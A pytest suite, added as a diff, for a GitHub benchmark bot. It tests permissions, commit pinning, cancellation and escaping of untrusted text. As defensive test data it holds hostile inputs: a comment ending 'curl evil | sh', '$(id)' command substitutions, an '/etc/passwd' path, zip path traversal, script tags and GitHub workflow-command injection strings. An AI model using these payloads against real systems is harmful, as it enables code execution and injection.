@@ -1,0 +1,497 @@
+"""The bench bot: who may ask for what, and what becomes of it."""
+
+import json
+import re
+
+import pytest
+
+from artifact_helpers import files_of, make_zip
+from bot_helpers import BOT, WORKFLOW, Forge
+from github_server import TOKEN
+from store_helpers import criterion_lines, error_line
+
+FLAGS = ("--rust-only", "--python-only")
+
+
+@pytest.fixture
+def forge(agent, tmp_path):
+    with Forge(agent, tmp_path) as forge:
+        yield forge
+
+
+def approve(forge, *words, commit=None):
+    return forge.say(" ".join(("@bench-bot benchmark", commit or forge.head, *words)))
+
+
+# --- approval -----------------------------------------------------------------------------------
+
+
+def test_an_approved_commit_is_dispatched(forge):
+    said = approve(forge)
+    assert said["action"] == "dispatched" and said["commit"] == forge.head and said["pull_request"] == 7
+    (run,) = forge.runs
+    assert run["inputs"] == {"git_sha": forge.head, "pr_number": "7", "pr_repo": "stranger/quick",
+                             "run_rust": "true", "run_python": "true", "rust_crates": ""}
+    (check,) = forge.checks
+    comment = max(c["id"] for c in forge.repo.comments.values() if c["author"] == "maintainer")
+    assert check["external_id"] == f"lance-bench/1/7/{forge.head}/{comment}/all"
+    assert check["head_sha"] == forge.head and check["status"] == "queued" and check["name"] == "lance-bench"
+    assert str(run["id"]) in check["details_url"]
+    assert forge.head in forge.text and str(run["id"]) in forge.text and "`maintainer`" in forge.text
+
+
+@pytest.mark.parametrize("words, inputs", [
+    (("--rust-only",), {"run_rust": "true", "run_python": "false"}),
+    (("--python-only",), {"run_rust": "false", "run_python": "true"}),
+    (("--crate", "lance-io", "--crate=lance-linalg"),
+     {"run_rust": "true", "run_python": "false", "rust_crates": "lance-io,lance-linalg"}),
+])
+def test_choices_reach_the_workflow(forge, words, inputs):
+    approve(forge, *words)
+    assert inputs.items() <= forge.runs[0]["inputs"].items()
+    assert forge.checks[0]["external_id"].endswith("/part")
+
+
+def test_without_a_commit_nothing_runs_and_the_line_to_copy_is_said(forge):
+    said = forge.say("@bench-bot benchmark --crate lance-io")
+    assert said["action"] == "answered"
+    assert forge.runs == [] and forge.checks == []
+    line = f"@bench-bot benchmark {forge.head} --crate lance-io"
+    assert f"\n{line}\n" in forge.text
+    assert forge.say(line)["action"] == "dispatched"
+    assert len(forge.ours) == 1
+
+
+def test_a_reply_that_quotes_the_commit_approves_it(forge):
+    forge.say("@bench-bot benchmark")
+    quoted = "\n".join("> " + line for line in forge.text.splitlines())
+    said = forge.say(f"{quoted}\n\n@bench-bot benchmark")
+    assert said["action"] == "dispatched" and said["commit"] == forge.head
+
+
+def test_a_push_after_the_approval_changes_nothing(forge):
+    """The comment names the commit: what is pushed while it is read is not run."""
+    newer = forge.repo.add_commit("something else", branch="topic")
+    forge.repo.pulls[7]["head_sha"] = newer
+    said = approve(forge, commit=forge.head)
+    assert said["action"] == "dispatched"
+    assert forge.runs[0]["inputs"]["git_sha"] == forge.head != newer
+
+
+def test_a_former_head_is_of_the_pull_request(forge):
+    assert approve(forge, commit=forge.old)["commit"] == forge.old
+
+
+@pytest.mark.parametrize("which", ["base", "before the base", "another branch", "unknown", "pushed away"])
+def test_a_commit_of_elsewhere_is_refused(forge, which):
+    commit = {
+        "base": forge.base,
+        "before the base": forge.repo.commits[forge.base]["parents"][0],
+        "another branch": forge.repo.add_commit("other", branch="other", parents=[forge.base]),
+        "unknown": "f" * 40,
+        "pushed away": forge.head,
+    }[which]
+    if which == "pushed away":
+        forge.repo.pulls[7]["head_sha"] = forge.repo.add_commit("rewritten", branch="topic", parents=[forge.base])
+    said = approve(forge, commit=commit)
+    assert said["action"] == "refused" and "no commit of this pull request" in said["why"]
+    assert forge.runs == [] and forge.checks == []
+
+
+def test_case_of_the_commit_does_not_matter(forge):
+    assert approve(forge, commit=forge.head.upper())["commit"] == forge.head
+
+
+# --- authorisation ------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("author, may", [("maintainer", True), ("keeper", True), ("boss", True), ("reader", False),
+                                         ("helper", False), ("stranger", False), ("nobody-here", False)])
+def test_write_access_decides_and_not_who_opened_it(forge, author, may):
+    said = forge.say(f"@bench-bot benchmark {forge.head}", author=author)
+    assert said["action"] == ("dispatched" if may else "refused")
+    assert len(forge.runs) == len(forge.checks) == int(may)
+    if not may:
+        assert "write access" in forge.text
+
+
+@pytest.mark.parametrize("verb", ["benchmark", "compare main", "status", "cancel", "help"])
+def test_every_command_takes_write_access(forge, verb):
+    assert forge.say(f"@bench-bot {verb}", author="stranger")["action"] == "refused"
+
+
+def test_the_associations_word_is_not_believed(forge):
+    comment = forge.repo.add_comment(7, f"@bench-bot benchmark {forge.head}", "stranger", association="OWNER")
+    said = forge.done(forge.bot("comment", forge.comment_event(comment)))
+    assert said["action"] == "refused" and forge.runs == []
+
+
+@pytest.mark.parametrize("how, more", [
+    ("edited", {"action": "edited"}), ("deleted", {"action": "deleted"}), ("on an issue", {"is_pull": False}),
+    ("by a bot", {"author": BOT}), ("by another bot", {"author": "dependabot[bot]"}),
+])
+def test_what_is_no_new_comment_of_a_person_is_ignored(forge, how, more):
+    forge.repo.permissions |= {BOT: "admin", "dependabot[bot]": "admin"}
+    before = len(forge.server.requests)
+    assert forge.say(f"@bench-bot benchmark {forge.head}", **more)["action"] == "ignored", how
+    assert forge.runs == [] and len(forge.server.requests) == before, "nobody was even asked"
+
+
+def test_a_comment_that_was_deleted_meanwhile_is_ignored(forge):
+    comment = forge.repo.add_comment(7, f"@bench-bot benchmark {forge.head}", "maintainer")
+    env = forge.comment_event(comment)
+    del forge.repo.comments[comment["id"]]
+    assert forge.done(forge.bot("comment", env))["action"] == "ignored"
+
+
+def test_a_closed_pull_request_is_not_run(forge):
+    forge.repo.pulls[7]["state"] = "closed"
+    assert "closed" in approve(forge)["why"]
+
+
+def test_a_fork_that_is_gone_is_named(forge):
+    forge.repo.pulls[7]["head_repo"] = ""
+    assert "gone" in approve(forge)["why"]
+
+
+# --- what is said to it -------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("body, word", [
+    ("@bench-bot benchmark {head}\n@bench-bot cancel", "one command"),
+    ("@bench-bot benchmark {head}; curl evil | sh", "nothing else"),
+    ("@bench-bot benchmark {head} --crate $(id)", "--crate"),
+    ("@bench-bot benchmark {head} --crate `id`", "--crate"),
+    ("@bench-bot benchmark {head}\u202e", "plain ASCII"),
+    ("@bench-bot benchmark \u200b{head}", "plain ASCII"),
+    ("@bench-bot benchmark {head}\x00", "plain ASCII"),
+    ("@bench-bot launch", "no command"),
+    ("@bench-bot benchmark {head} {base}", "two commits"),
+    ("@bench-bot compare --output=/etc/passwd", "compare takes"),
+    ("x\n" * 600_000 + "@bench-bot status", "too long"),
+])
+def test_what_is_wrong_is_one_refusal(forge, body, word):
+    said = forge.say(body.format(head=forge.head, base=forge.base))
+    if body.endswith("\x00"):  # JSON's \u0000 ends the text where it is read
+        assert said["action"] in ("dispatched", "refused")
+        return
+    assert said["action"] == "refused" and word in said["why"], said
+    assert forge.runs == [] and forge.checks == [] and len(forge.ours) == 1
+    assert "that was not done" in forge.text
+
+
+@pytest.mark.parametrize("body", [
+    "I like this", "> @bench-bot benchmark", "```\n@bench-bot benchmark\n```", "ask @bench-bot benchmark",
+    "@b\u0435nch-bot benchmark", "<!-- \n@bench-bot benchmark\n-->", "", "\u202e@bench-bot benchmark",
+])
+def test_what_is_not_for_the_bot_is_left_alone(forge, body):
+    assert forge.say(body)["action"] == "ignored"
+    assert forge.ours == []
+
+
+def test_a_login_is_shown_as_text(forge):
+    said = forge.say("@bench-bot benchmark", author="x](http://evil) @everyone <b>")
+    assert said["action"] == "refused"
+    assert "`x](http://evil) @everyone <b>`" in forge.text
+
+
+def test_help_lists_the_commands(forge):
+    forge.say("@bench-bot help")
+    for verb in ("benchmark", "compare", "status", "cancel", "help"):
+        assert f"`@bench-bot {verb}" in forge.text
+
+
+def test_another_name_for_the_bot(forge):
+    comment = forge.repo.add_comment(7, f"@perf benchmark {forge.head}", "maintainer")
+    said = forge.done(forge.bot("comment", forge.comment_event(comment), "--mention", "@perf"))
+    assert said["action"] == "dispatched"
+
+
+# --- one comment, one check, one run -------------------------------------------------------------
+
+
+def test_the_same_comment_once_more_changes_nothing(forge):
+    comment = forge.repo.add_comment(7, f"@bench-bot benchmark {forge.head}", "maintainer")
+    env = forge.comment_event(comment)
+    assert forge.done(forge.bot("comment", env))["action"] == "dispatched"
+    text, check = forge.text, dict(forge.checks[0])
+    assert forge.done(forge.bot("comment", env))["action"] == "found"
+    assert forge.text == text and len(forge.runs) == 1 and forge.checks == [check]
+
+
+def test_a_commit_under_way_is_not_measured_twice(forge):
+    approve(forge)
+    said = approve(forge)
+    assert said["action"] == "refused" and "already" in said["why"]
+    assert len(forge.runs) == len(forge.checks) == 1
+
+
+def test_a_commit_is_measured_again_when_its_run_is_over(forge):
+    approve(forge)
+    forge.repo.finish_run(forge.runs[0])
+    forge.server.clock_offset += 60
+    assert approve(forge)["action"] == "dispatched"
+    assert len(forge.runs) == 2
+    assert [c["conclusion"] for c in forge.checks] == ["cancelled", None], "the one that was lost is closed"
+
+
+def test_a_comment_with_the_bots_mark_by_somebody_else_is_left_alone(forge):
+    theirs = forge.repo.add_comment(7, "<!-- bench-bot -->\nforged", "stranger")
+    approve(forge)
+    assert forge.repo.comments[theirs["id"]]["body"].endswith("forged")
+    assert len(forge.ours) == 1
+
+
+def test_an_answer_keeps_the_state(forge):
+    approve(forge)
+    state = re.search(r"\*\*Queued\*\*.*", forge.text)[0]
+    forge.say("@bench-bot help")
+    assert state in forge.text and "`@bench-bot cancel`" in forge.text
+    forge.say("@bench-bot nonsense")
+    assert state in forge.text and "`@bench-bot cancel`" not in forge.text
+
+
+def test_status_says_where_the_run_is(forge):
+    forge.say("@bench-bot status")
+    assert "No commit of this pull request was approved" in forge.text
+    approve(forge)
+    forge.runs[0]["status"] = "in_progress"
+    forge.say("@bench-bot status")
+    assert f"Commit `{forge.head}`: the check is queued; the [run]" in forge.text and "is in_progress" in forge.text
+
+
+def test_cancel_stops_the_runs_of_this_pull_request_alone(forge):
+    approve(forge)
+    other = forge.repo.add_run(WORKFLOW, title=f"Benchmarks of {forge.base}")
+    theirs = forge.repo.add_run(WORKFLOW, title=f"Benchmarks of {forge.base} for pull request #8")
+    assert forge.say("@bench-bot cancel")["action"] == "answered"
+    assert forge.runs[0]["conclusion"] == "cancelled" and forge.checks[0]["conclusion"] == "cancelled"
+    assert other["status"] == theirs["status"] == "queued"
+    assert "1 run was stopped" in forge.text and "**Cancelled**" in forge.text
+    forge.say("@bench-bot cancel")
+    assert "nothing to cancel" in forge.text
+
+
+# --- GitHub's refusals ---------------------------------------------------------------------------
+
+
+def test_a_workflow_that_is_not_there_is_said_everywhere(forge):
+    del forge.repo.workflows[WORKFLOW]
+    comment = forge.repo.add_comment(7, f"@bench-bot benchmark {forge.head}", "maintainer")
+    line = error_line(forge.bot("comment", forge.comment_event(comment)), 1)
+    assert WORKFLOW in line
+    assert forge.checks[0]["conclusion"] == "failure" and "Could not be started" in forge.text
+
+
+@pytest.mark.parametrize("area", ["issues", "checks", "actions", "pull_requests"])
+def test_a_token_without_a_permission_is_one_line(forge, area):
+    forge.server.tokens[TOKEN].permissions[area] = "read" if area != "pull_requests" else "none"
+    comment = forge.repo.add_comment(7, f"@bench-bot benchmark {forge.head}", "maintainer")
+    line = error_line(forge.bot("comment", forge.comment_event(comment)), 1)
+    assert TOKEN not in line
+    assert forge.runs == []
+
+
+def test_no_token_is_one_line(forge):
+    comment = forge.repo.add_comment(7, "@bench-bot help", "maintainer")
+    env = {k: v for k, v in forge.comment_event(comment).items() if k != "GITHUB_TOKEN"}
+    assert "GITHUB_TOKEN" in error_line(forge.bot("comment", env), 129)
+
+
+def test_an_event_of_another_type_is_one_line(forge):
+    env = forge.event("push", {"ref": "refs/heads/main", "after": forge.base, "before": forge.base})
+    assert "issue_comment" in error_line(forge.bot("comment", env), 129)
+    assert "workflow_run" in error_line(forge.bot("finish", env), 129)
+
+
+@pytest.mark.parametrize("words", [("--mention", "bench"), ("--mention", "@a b"), ("--workflow", "")])
+def test_a_wrong_wish_is_wrong_usage(forge, words):
+    comment = forge.repo.add_comment(7, "@bench-bot help", "maintainer")
+    error_line(forge.bot("comment", forge.comment_event(comment), *words), 129)
+
+
+# --- the end of a run ----------------------------------------------------------------------------
+
+
+def test_results_are_published_and_shown(forge):
+    approve(forge)
+    said = forge.done(forge.finish(forge.runs[0], make_zip(files_of(commit=forge.head))))
+    assert said["action"] == "published" and said["results"] == 2 and said["conclusion"] == "success"
+    rows = forge.store.query("select benchmark_name as b, dut, test_bed['name'] as bed from results_pr order by 1")
+    assert [(r["b"], r["bed"]) for r in rows] == [("count", "metal"), ("split", "metal")]
+    assert rows[0]["dut"]["name"] == "quick"
+    assert rows[0]["dut"]["timestamp"] == forge.repo.commits[forge.head]["commit_s"], "GitHub says when"
+    (check,) = forge.checks
+    assert check["conclusion"] == "success" and check["status"] == "completed"
+    assert "`count`" in forge.text and "100" in forge.text and len(forge.ours) == 1
+
+
+def test_the_base_stands_beside_the_results(forge):
+    lines = forge.store.file("base.json", criterion_lines(["count", "gone"]))
+    forge.store.ok("publish", "criterion", lines, "--dut-name", "quick", "--dut-version", "1", "--dut-timestamp",
+                   forge.repo.commits[forge.base]["commit_s"], "--testbed-name", "metal", "--commit", forge.base)
+    approve(forge)
+    forge.done(forge.finish(forge.runs[0], make_zip(files_of(commit=forge.head))))
+    assert f"measured at the base `{forge.base}`" in forge.text
+    (row,) = [line for line in forge.text.splitlines() if line.startswith("| `count`")]
+    before = forge.store.query("select summary from results where benchmark_name = 'count'")[0]["summary"]["median"]
+    assert row.endswith(f"| {100 / before:.3f} |")
+    (row,) = [line for line in forge.text.splitlines() if line.startswith("| `split`")]
+    assert row.endswith("| – |")
+    assert "Measured at the base, and not here: `gone`." in forge.text, "the base says what is expected"
+
+
+def test_compare_sets_the_results_beside_another_commit(forge):
+    approve(forge)
+    forge.done(forge.finish(forge.runs[0], make_zip(files_of(commit=forge.head))))
+    lines = forge.store.file("base.json", criterion_lines(["count"]))
+    older = forge.repo.commits[forge.base]["parents"][0]
+    forge.store.ok("publish", "criterion", lines, "--dut-name", "quick", "--dut-version", "1", "--dut-timestamp",
+                   1_700_000_000, "--testbed-name", "metal", "--commit", older)
+    assert forge.say(f"@bench-bot compare {older[:10]}")["action"] == "answered"
+    assert f"measured at the base `{older}`" in forge.text
+    assert forge.say("@bench-bot compare no-such-branch")["action"] == "refused"
+
+
+def test_the_same_end_once_more_changes_nothing(forge):
+    approve(forge)
+    forge.done(forge.finish(forge.runs[0], make_zip(files_of(commit=forge.head))))
+    text, state, check = forge.text, forge.store.state(), dict(forge.checks[0])
+    forge.done(forge.finish(forge.runs[0]))
+    assert (forge.text, forge.store.state(), forge.checks) == (text, state, [check])
+
+
+def test_an_artifact_of_another_commit_is_refused_and_said(forge):
+    approve(forge)
+    line = error_line(forge.finish(forge.runs[0], make_zip(files_of(commit=forge.base))), 1)
+    assert "nothing is published" in line
+    assert forge.store.tables() == {}
+    assert forge.checks[0]["conclusion"] == "failure" and "The results were refused" in forge.text
+
+
+@pytest.mark.parametrize("artifact", [b"", b"no zip", make_zip({}), make_zip({"../x": "y"}), make_zip({"x": "y"})])
+def test_a_hostile_artifact_is_refused_and_said(forge, artifact):
+    approve(forge)
+    error_line(forge.finish(forge.runs[0], artifact), 1)
+    assert forge.store.tables() == {} and forge.checks[0]["conclusion"] == "failure"
+
+
+def test_a_run_without_an_artifact_is_a_failure_of_the_check(forge):
+    approve(forge)
+    forge.repo.finish_run(forge.runs[0], "failure")
+    said = forge.done(forge.finish(forge.runs[0]))
+    assert said["action"] == "failed" and forge.checks[0]["conclusion"] == "failure"
+    assert "Nothing was measured" in forge.text
+
+
+def test_a_run_that_was_cancelled_is_said(forge):
+    approve(forge)
+    forge.repo.finish_run(forge.runs[0], "cancelled")
+    assert forge.done(forge.finish(forge.runs[0]))["conclusion"] == "cancelled"
+    assert forge.checks[0]["conclusion"] == "cancelled"
+
+
+def test_a_run_that_nobody_approved_is_not_published(forge):
+    """Its title may say what it likes: without the check run there is no commit to publish for."""
+    run = forge.repo.add_run(WORKFLOW, title=f"Benchmarks of {forge.head} for pull request #7")
+    line = error_line(forge.finish(run, make_zip(files_of(commit=forge.head))), 1)
+    assert "nobody has approved" in line and forge.store.tables() == {}
+
+
+@pytest.mark.parametrize("change", [
+    {"external_id": "lance-bench/1/8/{head}/1/all"}, {"external_id": "lance-bench/1/7/{base}/1/all"},
+    {"external_id": "something"}, {"external_id": ""}, {"name": "other"},
+])
+def test_a_check_run_that_is_no_approval_of_it_does_not_count(forge, change):
+    approve(forge)
+    change = {k: v.format(head=forge.head, base=forge.base) for k, v in change.items()}
+    forge.checks[0].update(change)
+    line = error_line(forge.finish(forge.runs[0], make_zip(files_of(commit=forge.head))), 1)
+    assert "nobody has approved" in line and forge.store.tables() == {}
+
+
+@pytest.mark.parametrize("change", [
+    {"event": "pull_request"}, {"head_repository": {"full_name": "stranger/quick"}},
+    {"path": ".github/workflows/other.yml"}, {"display_title": "Benchmarks of main"}, {"head_repository": None},
+])
+def test_a_run_that_is_not_ours_is_ignored(forge, change):
+    """A workflow of the same name in a fork triggers the same event, with a title of the stranger's choice."""
+    approve(forge)
+    forge.repo.add_artifact("lance-bench-pull-request", make_zip(files_of(commit=forge.head)),
+                            run_id=forge.runs[0]["id"])
+    forge.repo.finish_run(forge.runs[0])
+    said = forge.done(forge.bot("finish", forge.run_event(forge.runs[0], **change)))
+    assert said["action"] == "ignored"
+    assert forge.store.tables() == {} and forge.checks[0]["conclusion"] is None
+
+
+def test_progress_is_shown(forge):
+    approve(forge)
+    run = forge.runs[0]
+    assert forge.done(forge.bot("progress", forge.run_event(run, action="requested")))["action"] == "answered"
+    assert "**Queued**" in forge.text
+    forge.done(forge.bot("progress", forge.run_event(run, action="in_progress")))
+    assert forge.checks[0]["status"] == "in_progress" and "**Running**" in forge.text
+    forge.done(forge.finish(run, make_zip(files_of(commit=forge.head))))
+    late = forge.done(forge.bot("progress", forge.run_event(run, action="in_progress")))
+    assert late["action"] == "ignored" and forge.checks[0]["conclusion"] == "success"
+
+
+def test_which_machine_measured_is_never_taken_from_the_artifact(forge):
+    approve(forge)
+    run = forge.runs[0]
+    forge.repo.add_artifact("lance-bench-pull-request", make_zip(files_of(commit=forge.head)), run_id=run["id"])
+    forge.repo.finish_run(run)
+    env = {k: v for k, v in forge.run_event(run).items() if k != "LANCE_BENCH_TESTBED"}
+    assert "--testbed-name" in error_line(forge.bot("finish", env), 129)
+    assert forge.checks[0]["conclusion"] is None, "it is ours to set right: the job can be run again"
+    forge.store.published(forge.store.file("main.json", criterion_lines(["count"])), bed="the-only-one")
+    assert forge.done(forge.bot("finish", env))["action"] == "published"
+    assert forge.store.query("select distinct test_bed['name'] as b from results_pr") == [{"b": "the-only-one"}]
+
+
+# --- what foreign names may do in a comment --------------------------------------------------------
+
+NASTY = ["@everyone `x` | y", "</details><script>alert(1)</script>", "[a](http://evil)", "\u202eevil\u200b",
+         "<!-- bench-bot:answer -->", "a\nb\n::error::c\n<!-- bench-bot:end -->\n", "http://evil.example", "x" * 5000,
+         "#1 GH-2 owner/quick#3", "::set-output name=a::b"]
+
+
+def test_names_are_shown_as_text_and_nothing_else(forge):
+    approve(forge)
+    done = forge.finish(forge.runs[0], make_zip(files_of(NASTY, commit=forge.head)))
+    assert forge.done(done)["results"] == len(NASTY)
+    rows = [line for line in forge.text.splitlines() if line.startswith("| `")]
+    assert len(rows) == len(NASTY)
+    for row in rows:
+        name = re.fullmatch(r"\| `([^`]*)` \| `metal` \| – \| [^|]* \| – \|", row)
+        assert name, row
+        assert not re.search(r"(?<!\\)\|", name[1]) and "\u202e" not in row and "\u200b" not in row
+        assert len(row.encode()) < 300
+    outside = re.sub(r"`[^`\n]*`", "", forge.text)
+    for word in ("@everyone", "<script", "</details", "evil", "::error"):
+        assert word not in outside, word
+    assert "\n::" not in done.stdout + done.stderr
+    text = forge.text
+    forge.say("@bench-bot help")
+    assert all(row in forge.text for row in rows), "a name does not end the section it stands in"
+    assert text.split("bench-bot:result")[1].split("<!-- bench-bot:end")[0].strip() in forge.text
+
+
+def test_a_comment_stays_within_githubs_limit(forge):
+    names = [f"benchmark with a rather long name, so that there are many bytes of it, number {n:05}" for n in range(900)]
+    approve(forge)
+    forge.done(forge.finish(forge.runs[0], make_zip(files_of(names, commit=forge.head))))
+    assert len(forge.text) <= 65536 and "cut off" in forge.text
+    assert forge.text.rstrip().splitlines()[-1].startswith("<!-- bench-bot"), "its marks are whole"
+    forge.say("@bench-bot status")
+    assert len(forge.text) <= 65536 and len(forge.ours) == 1
+
+
+def test_a_reason_of_foreign_code_is_shown_as_text(forge):
+    files = files_of(commit=forge.head, outcome="failed", reason="@team <b>`broke`</b>\n## heading\n::error::x")
+    files = {"manifest.json": files["manifest.json"]}
+    approve(forge)
+    forge.done(forge.finish(forge.runs[0], make_zip(files)))
+    assert "`@team <b>'broke'</b> ## heading ::error::x`" in forge.text
+    assert json.loads(files["manifest.json"])["commit"] == forge.head
